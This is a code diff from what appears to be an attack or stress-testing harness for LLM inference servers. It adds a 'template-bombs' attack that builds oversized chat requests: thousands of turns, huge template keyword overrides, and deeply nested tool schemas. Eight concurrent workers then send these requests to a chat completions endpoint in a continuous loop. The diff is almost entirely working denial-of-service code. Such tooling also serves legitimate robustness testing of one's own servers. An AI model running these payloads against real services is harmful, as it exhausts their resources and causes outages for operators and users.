@@ -181,3 +181,35 @@ async def send_digits(attacker: Attacker) -> None:
             await attacker.call("POST", "/v1/completions", data=body, headers={"Content-Type": "application/json"})
 
     await attacker.side_by_side(40, one)
+
+
+@cache
+def template_bombs() -> list[dict[str, object]]:
+    """Chats that templates multiply: a special token for each message, deep tools with indentation."""
+    turns = [{"role": ("user", "assistant")[i % 2], "content": "a"} for i in range(4001)]
+    deep: object = [1] * 20_000
+    for _ in range(55):
+        deep = [deep]
+    tool = {"type": "function", "function": {"name": "f", "parameters": {"enum": deep}}}
+    return [
+        {"messages": turns, "chat_template_kwargs": {"eos_token": "x" * 80_000}},
+        {"messages": turns, "chat_template_kwargs": {"padding": "x" * 16_000}},
+        {"messages": turns[:1], "tools": [tool]},
+        {"messages": turns[:1], "tools": [tool] * 2, "chat_template_kwargs": {"a": deep}},
+    ]
+
+
+@attack("template-bombs", "chats that templates multiply: tokens, variables, deep tools", prepare=template_bombs)
+async def send_templates(attacker: Attacker) -> None:
+    bodies = [
+        json.dumps({"model": attacker.target.base_model, "max_tokens": 1, **fields}).encode()
+        for fields in template_bombs()
+    ]
+
+    async def one(index: int) -> None:
+        body = bodies[index % len(bodies)]
+        while attacker.going:
+            headers = {"Content-Type": "application/json"}
+            await attacker.call("POST", "/v1/chat/completions", data=body, headers=headers)
+
+    await attacker.side_by_side(8, one)
